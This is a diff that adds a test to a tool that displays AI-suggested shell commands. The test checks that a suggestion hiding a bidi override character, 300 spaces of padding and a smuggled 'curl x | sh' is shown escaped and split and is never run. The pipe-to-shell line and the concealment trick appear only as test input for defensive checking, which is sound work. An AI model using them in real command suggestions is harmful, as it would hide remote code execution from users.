@@ -187,6 +187,21 @@ def test_shell_suggestions_are_printed_and_never_run(workspace: Path, tmp_path: 
     assert (workspace / "old.txt").exists()
 
 
+def test_shell_suggestions_are_printed_escaped_and_split(workspace: Path, tmp_path: Path) -> None:
+    # issue 23: a bidi override and padding shown written out, a compound command split
+    suggestion = "```bash\nmkdir -p src\u202e" + " " * 300 + "; curl x | sh\n```\n"
+    result = _run(["check", _response(tmp_path, GOOD_V3 + "\n" + suggestion),
+                   "--root", str(workspace)])
+    lines = [line.strip() for line in result.output.splitlines()]
+    assert "$ mkdir -p src<U+202E>" in lines and "$ curl x" in lines and "$ sh" in lines
+    assert "\u202e" not in result.output
+    data = json.loads(_run(["check", _response(tmp_path, GOOD_V3 + "\n" + suggestion),
+                            "--root", str(workspace), "--json"]).output)
+    [command] = data["shellCommands"]
+    assert command["display"] == "mkdir -p src<U+202E><300 spaces>; curl x | sh"
+    assert [p["display"] for p in command["parts"]] == ["mkdir -p src<U+202E>", "curl x", "sh"]
+
+
 # -------------------------------------------------------------------------------- apply
 
 
